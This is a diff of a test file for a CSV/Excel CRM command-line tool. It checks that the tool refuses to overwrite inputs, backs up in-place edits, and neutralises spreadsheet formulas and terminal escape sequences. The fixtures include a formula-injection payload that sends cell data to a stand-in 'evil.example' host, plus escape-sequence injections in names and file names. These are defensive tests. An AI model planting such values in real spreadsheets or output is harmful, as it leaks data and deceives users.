@@ -1,37 +1,22 @@
 // What the BUILT `crm` command must never do to the files a user owns: write over an input
 // (whatever the path looks like), or change a workbook in place without an explicit --in-place
 // and a .bak of it.
-import { spawnSync } from 'node:child_process';
 import { existsSync } from 'node:fs';
 import { copyFile, link, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { fileURLToPath } from 'node:url';
 import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runCrm, systemLocale } from './support/crm.ts';
 
-const ROOT = fileURLToPath(new URL('..', import.meta.url));
-const CRM = join(ROOT, 'cli', 'bin', 'crm.js');
 const TODAY = '2026-03-01';
 
 let dir: string;
 let sample: { customers: string; orders: string; complaints: string };
 
 function crm(args: string[], lang: 'en' | 'zh' = 'en') {
-  const env = {
-    ...process.env,
-    LC_ALL: '',
-    LC_MESSAGES: '',
-    LANG: lang === 'zh' ? 'zh_CN.UTF-8' : 'en_US.UTF-8',
-  };
-  const result = spawnSync(process.execPath, [CRM, ...args], {
-    cwd: dir,
-    env,
-    encoding: 'utf8',
-    timeout: 120_000,
-  });
-  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
+  return runCrm(args, { cwd: dir, env: systemLocale(lang === 'zh' ? 'zh_CN.UTF-8' : 'en_US.UTF-8') });
 }
 
 beforeAll(async () => {
@@ -48,7 +33,7 @@ beforeAll(async () => {
     TODAY,
     '--quiet',
   ]);
-  expect(demo.code).toBe(0);
+  expect(demo.status).toBe(0);
   sample = {
     customers: join(dir, 'demo', 'sample-customers.xlsx'),
     orders: join(dir, 'demo', 'sample-orders.csv'),
@@ -84,7 +69,7 @@ describe('an --out that is an input is refused, the input untouched', () => {
     const f = await inputs(`same-${command}`);
     const before = await readFile(f.book);
     const run = crm([...args(f), '--today', TODAY]);
-    expect(run.code).toBe(1);
+    expect(run.status).toBe(1);
     expect(run.stderr).toContain(
       `--out ${f.book} is the input file ${f.book} (--in); writing would overwrite it`,
     );
@@ -111,7 +96,7 @@ describe('an --out that is an input is refused, the input untouched', () => {
     ];
     for (const args of runs) {
       const run = crm(args);
-      expect(run.code, args.join(' ')).toBe(1);
+      expect(run.status, args.join(' ')).toBe(1);
       expect(run.stderr, args.join(' ')).toMatch(/is the input file .* \(--(in|orders|config)\)/);
     }
     expect((await readFile(f.book)).equals(before.book)).toBe(true);
@@ -122,14 +107,14 @@ describe('an --out that is an input is refused, the input untouched', () => {
   it('says so in Chinese on a Chinese system', async () => {
     const f = await inputs('zh');
     const run = crm(['clean', '--in', f.book, '--out', f.book], 'zh');
-    expect(run.code).toBe(1);
+    expect(run.status).toBe(1);
     expect(run.stderr).toContain(`--out ${f.book} 就是输入文件 ${f.book}（--in）：写出会覆盖它`);
   });
 
   it('still writes an --out that is merely in the same folder', async () => {
     const f = await inputs('beside');
     const run = crm(['clean', '--in', f.book, '--out', join(f.folder, 'review.xlsx'), '--today', TODAY]);
-    expect(run.code).toBe(0);
+    expect(run.status).toBe(0);
     expect(existsSync(join(f.folder, 'review.xlsx'))).toBe(true);
   });
 });
@@ -149,7 +134,7 @@ describe('classify --in-place', () => {
     const userHeader = await headerOf(f.book);
     const run = crm(['classify', '--in', f.book, '--in-place', '--today', TODAY, '--no-clv', '--quiet']);
     expect(run.stderr).toBe('');
-    expect(run.code).toBe(0);
+    expect(run.status).toBe(0);
     expect(run.stdout).toContain(`wrote ${f.book} (the file as it was: ${f.book}.bak)`);
     expect((await readFile(`${f.book}.bak`)).equals(original)).toBe(true);
     const header = await headerOf(f.book);
@@ -158,17 +143,17 @@ describe('classify --in-place', () => {
 
     // A second run re-uses the columns; the .bak is the workbook as this run found it.
     const once = await readFile(f.book);
-    expect(crm(['classify', '--in', f.book, '--in-place', '--today', TODAY, '--no-clv']).code).toBe(0);
+    expect(crm(['classify', '--in', f.book, '--in-place', '--today', TODAY, '--no-clv']).status).toBe(0);
     expect((await readFile(`${f.book}.bak`)).equals(once)).toBe(true);
     expect(await headerOf(f.book)).toEqual(header);
   });
 
   it('is refused with --out and on a Google Sheet', () => {
     const both = crm(['classify', '--in', sample.customers, '--in-place', '--out', 'x.xlsx']);
-    expect(both.code).toBe(1);
+    expect(both.status).toBe(1);
     expect(both.stderr).toContain('use either --in-place or --out');
     const sheet = crm(['classify', '--spreadsheet', 'abc', '--in-place']);
-    expect(sheet.code).toBe(1);
+    expect(sheet.status).toBe(1);
     expect(sheet.stderr).toContain('--in-place is for a local file');
   });
 });
@@ -231,7 +216,7 @@ describe('text stays text in every CSV crm writes', () => {
       ['followups', 'tasks.csv'],
     ] as const) {
       const run = crm([command, '--in', book, '--today', TODAY, '--quiet', '--out', join(folder, out)]);
-      expect(run.code, run.stderr).toBe(0);
+      expect(run.status, run.stderr).toBe(0);
       const cells = (await csvCells(join(folder, out))).flat();
       const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell));
       expect(live, `${command}: cells a spreadsheet would run`).toEqual([]);
@@ -261,7 +246,7 @@ describe('text stays text in every CSV crm writes', () => {
       '--json',
       '--quiet',
     ]);
-    expect(again.code, again.stderr).toBe(0);
+    expect(again.status, again.stderr).toBe(0);
     const customers = (JSON.parse(again.stdout) as { customers: { id: string; name: string }[] }).customers;
     expect(customers.map((c) => c.name)).toEqual([
       '=HYPERLINK("http://evil.example/?"&A2,"点我")',
@@ -292,11 +277,11 @@ describe('crm prints no escape sequence that came from a cell or a page', () => 
     await writeFile(book, `${rows.map((row) => row.map((cell) => `"${cell}"`).join(',')).join('\r\n')}\r\n`);
 
     const clean = crm(['clean', '--in', book, '--today', TODAY, '--quiet']);
-    expect(clean.code, clean.stderr).toBe(0);
+    expect(clean.status, clean.stderr).toBe(0);
     expect(clean.stdout).toContain('139 1234');
     expect(clean.stdout).not.toMatch(CONTROL);
     const classify = crm(['classify', '--in', book, '--today', TODAY, '--quiet', '--json']);
-    expect(classify.code, classify.stderr).toBe(0);
+    expect(classify.status, classify.stderr).toBe(0);
     expect(classify.stdout).not.toMatch(CONTROL);
     // JSON keeps the data: the escapes are written as \u escapes, which parse back to the cell.
     const names = (JSON.parse(classify.stdout) as { customers: { name: string }[] }).customers.map(
@@ -310,13 +295,13 @@ describe('crm prints no escape sequence that came from a cell or a page', () => 
       '<html><body><div class="vcard"><span class="fn">Li\u001b[31m Lei\u001b]0;x\u0007</span> <a href="mailto:li.lei@example.com">li.lei@example.com</a> Tel: +44 20 7946 0958</div></body></html>',
     );
     const extract = crm(['extract', page]);
-    expect(extract.code, extract.stderr).toBe(0);
+    expect(extract.status, extract.stderr).toBe(0);
     expect(extract.stdout).toContain('li.lei@example.com');
     expect(extract.stdout).not.toMatch(CONTROL);
     // A file name is printed too.
     const odd = join(folder, 'odd\u001b[31m.csv');
     const missing = crm(['clean', '--in', odd]);
-    expect(missing.code).toBe(1);
+    expect(missing.status).toBe(1);
     expect(missing.stderr).not.toMatch(CONTROL);
   });
 });
@@ -331,7 +316,7 @@ describe('phone numbers are E.164 or an issue', () => {
       'Customer ID,Name,Mobile\r\nK1,Anna Schmidt,79447151183632\r\nK2,Ben Weber,030 901820\r\n',
     );
     const run = crm(['clean', '--in', book, '--region', 'DE', '--json', '--quiet']);
-    expect(run.code, run.stderr).toBe(0);
+    expect(run.status, run.stderr).toBe(0);
     const review = JSON.parse(run.stdout) as { invalid: { row: number; column: string; value: string }[] };
     expect(review.invalid).toContainEqual(
       expect.objectContaining({ row: 2, column: 'Mobile', value: '79447151183632' }),
@@ -363,7 +348,7 @@ describe('a CSV that is no table stops crm at once, with why, and nothing writte
       out,
       '--quiet',
     ]);
-    expect(run.code).toBe(1);
+    expect(run.status).toBe(1);
     expect(run.stderr).toContain(
       `cannot read ${join(folder, 'orders.csv')}: the row that starts at row 4 runs on past 16,777,216 characters: most likely a quote mark (") that is never closed`,
     );
@@ -381,7 +366,7 @@ describe('a CSV that is no table stops crm at once, with why, and nothing writte
     );
     const out = join(folder, 'classified.csv');
     const run = crm(['classify', '--in', customers, '--today', TODAY, '--out', out, '--quiet']);
-    expect(run.code).toBe(1);
+    expect(run.status).toBe(1);
     expect(run.stderr).toContain(
       `cannot read ${customers}: row 3, column 2 (B): a quote mark (") there does not close its cell, so the 2 lines after it would be read into that one cell ("王芳,13812345678")`,
     );
@@ -393,7 +378,7 @@ describe('a CSV that is no table stops crm at once, with why, and nothing writte
     const renamed = join(folder, '客户.csv');
     await copyFile(book, renamed);
     const run = crm(['clean', '--in', renamed, '--quiet'], 'zh');
-    expect(run.code).toBe(1);
+    expect(run.status).toBe(1);
     expect(run.stderr).toContain(
       `无法读取 ${renamed}：这是一个 .xlsx 工作簿（或别的压缩文件），只是扩展名写成了 .csv：请把扩展名改为 .xlsx 后再试`,
     );
